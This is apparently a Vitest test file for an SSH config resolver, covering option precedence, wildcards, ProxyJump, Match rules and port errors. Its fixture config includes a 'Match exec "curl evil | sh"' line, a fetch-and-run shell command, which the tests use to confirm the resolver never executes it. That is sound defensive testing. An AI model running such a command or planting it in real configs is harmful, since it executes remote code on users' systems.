import { describe, expect, it } from 'vitest';
import { resolveHost } from '../../../main/ssh/config';

const me = { name: 'alice', home: '/home/alice' };

const CONFIG = `
# global defaults come last in a real file, and lose to anything before
Host build
  HostName build.internal
  User deploy
  Port 2222
  IdentityFile ~/.ssh/build_%h_%p_%r

Host *.lab !secret.lab
  User labuser
  IdentityFile=~/.ssh/lab
  ProxyJump bastion.lab:2200,jump2

Host build*
  User ignored-first-wins
  IdentityFile ~/.ssh/second

Match exec "curl evil | sh"
  User pwned

Match originalhost db user ops
  HostName db.internal

Host *
  Port 22
  IdentitiesOnly yes
`;

describe('resolving an alias in ~/.ssh/config', () => {
  it('takes the first value of each option and accumulates identity files with tokens expanded', () => {
    const r = resolveHost(CONFIG, 'build', me);
    expect(r).toMatchObject({ hostname: 'build.internal', user: 'deploy', port: 2222, identitiesOnly: true, proxyJump: [] });
    expect(r.identityFiles).toEqual(['/home/alice/.ssh/build_build.internal_2222_deploy', '/home/alice/.ssh/second']);
  });

  it('honours wildcards, negations and ProxyJump hops', () => {
    expect(resolveHost(CONFIG, 'gpu.lab', me)).toMatchObject({ hostname: 'gpu.lab', user: 'labuser', proxyJump: ['bastion.lab:2200', 'jump2'] });
    expect(resolveHost(CONFIG, 'secret.lab', me)).toMatchObject({ user: null, proxyJump: [], port: 22 });
  });

  it('never runs Match exec, and says so', () => {
    const r = resolveHost(CONFIG, 'other', me);
    expect(r.user).toBeNull();
    expect(r.notes.join(' ')).toContain('"Match exec" is never run');
  });

  it('evaluates Match originalhost and user', () => {
    expect(resolveHost(CONFIG, 'db', me, { user: 'ops' }).hostname).toBe('db.internal');
    expect(resolveHost(CONFIG, 'db', me).hostname).toBe('db');
  });

  it('lets what the user typed win over the file', () => {
    expect(resolveHost(CONFIG, 'build', me, { user: 'root', port: 2200 })).toMatchObject({ user: 'root', port: 2200 });
  });

  it('explains a bad port in the file', () => {
    expect(() => resolveHost('Host x\n Port ssh', 'x', me)).toThrow(/Port in ~\/\.ssh\/config for "x"/);
  });
});
